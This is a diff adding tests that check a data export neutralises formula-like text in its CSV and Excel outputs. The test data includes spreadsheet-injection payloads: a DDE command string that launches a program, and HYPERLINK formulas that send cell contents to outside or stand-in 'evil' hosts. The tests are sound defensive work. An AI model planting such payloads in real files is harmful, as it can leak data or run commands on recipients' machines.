@@ -294,3 +294,30 @@ def test_workbook_gets_a_sheet_for_an_undeclared_csv_but_no_dictionary_rows(tmp_
     assert openpyxl.load_workbook(path).sheetnames == ["README", "extra"]
     readme = pd.read_excel(path, sheet_name="README", header=None).fillna("")
     assert "extra" not in set(readme[0])
+
+
+@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"])
+def test_text_that_starts_like_a_formula_is_neutralised_in_the_csv(tmp_path, text):
+    figures = programme_figures().assign(indicator=text)
+    export.write_table(figures, "data_programme_figures", tmp_path, "default")
+    written = pd.read_csv(tmp_path / "tables" / "data_programme_figures.csv", dtype=str, keep_default_na=False)
+    assert written["indicator"].iloc[0] == "'" + text
+
+
+def test_numbers_and_numeric_text_are_not_neutralised():
+    assert export.neutral_text(-48.3) == -48.3
+    assert export.neutral_text("-48.3") == "-48.3"
+    assert export.neutral_text("plain") == "plain"
+    assert export.neutral_text("\rx") == "'\rx"
+
+
+def test_workbook_stores_formula_like_text_as_text_on_every_sheet(tmp_path):
+    out = tmp_path / "run"
+    export.write_table(programme_figures().assign(indicator="=1+1"), "data_programme_figures", out, "default")
+    path = out / "tables" / "default.xlsx"
+    info = RUN_INFO | {"description": "=HYPERLINK(\"http://evil\")"}
+    export.write_workbook(out / "tables", path, info, {"data_programme_figures": RUN_OF_TABLE})
+    book = openpyxl.load_workbook(path)
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert "'=1+1" in [c.value for c in book["data_programme_figures"]["D"]]
